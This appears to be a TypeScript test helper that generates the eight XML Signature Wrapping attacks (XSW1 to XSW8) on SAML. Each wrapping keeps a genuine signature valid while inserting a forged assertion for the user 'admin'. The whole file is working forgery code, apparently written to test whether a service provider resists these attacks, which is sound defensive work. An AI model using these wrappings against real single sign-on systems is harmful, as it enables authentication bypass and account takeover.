import { assertionOf, type Facts, responseOf } from './provider.ts'

const signature = /<Signature [\s\S]*?<\/Signature>/

/** A signed document apart: as it is, without its signature, and the signature. */
const apart = (xml: string) => ({ whole: xml, bare: xml.replace(signature, ''), mark: signature.exec(xml)?.[0] ?? '' })

/** Text with something put in before the end of an element. */
const endingIn = (xml: string, name: string, more: string) =>
  xml.replace(new RegExp(`</${name}>$`), `${more}</${name}>`)

/**
 * The eight ways of wrapping a signed document in another one (Somorovsky et al., "On Breaking SAML", 2012): the signature stays
 * right, and what is read beside it is the attacker's. The first two need a signed answer, the others a signed assertion.
 */
export const wrappings: Record<string, (facts: Facts, genuine: { response: string; assertion: string }) => string> = {
  'XSW1, the signed answer inside the signature of another': (facts, { response }) => {
    const { bare, mark } = apart(response)
    const evil = responseOf(evilOf(facts), assertionOf(evilOf(facts))).replace('ID="_response"', 'ID="_evilResponse"')
    return evil.replace('</saml:Issuer>', `</saml:Issuer>${endingIn(mark, 'Signature', bare)}`)
  },
  'XSW2, the signed answer beside the signature of another': (facts, { response }) => {
    const { bare, mark } = apart(response)
    const evil = responseOf(evilOf(facts), assertionOf(evilOf(facts))).replace('ID="_response"', 'ID="_evilResponse"')
    return evil.replace('</saml:Issuer>', `</saml:Issuer>${bare}${mark}`)
  },
  'XSW3, another assertion before the signed one': (facts, { assertion }) =>
    responseOf(facts, `${assertionOf(evilOf(facts))}${assertion}`),
  'XSW4, the signed assertion inside another': (facts, { assertion }) =>
    responseOf(facts, endingIn(assertionOf(evilOf(facts)), 'saml:Assertion', assertion)),
  'XSW5, the signature in another assertion, and the signed one behind it': (facts, { assertion }) => {
    const { bare, mark } = apart(assertion)
    return responseOf(facts, `${evilWith(facts, mark)}${bare}`)
  },
  'XSW6, the signed assertion in its signature in another': (facts, { assertion }) => {
    const { bare, mark } = apart(assertion)
    return responseOf(facts, evilWith(facts, endingIn(mark, 'Signature', bare)))
  },
  'XSW7, another assertion in extensions': (facts, { assertion }) =>
    responseOf(facts, `<samlp:Extensions>${assertionOf(evilOf(facts))}</samlp:Extensions>${assertion}`),
  'XSW8, the signed assertion as an object of its signature in another': (facts, { assertion }) => {
    const { bare, mark } = apart(assertion)
    return responseOf(facts, evilWith(facts, endingIn(mark, 'Signature', `<Object>${bare}</Object>`)))
  },
}

const evilOf = (facts: Facts): Facts => ({ ...facts, nameId: 'admin', assertionId: '_evil' })

const evilWith = (facts: Facts, mark: string) =>
  assertionOf(evilOf(facts)).replace('</saml:Issuer>', `</saml:Issuer>${mark}`)
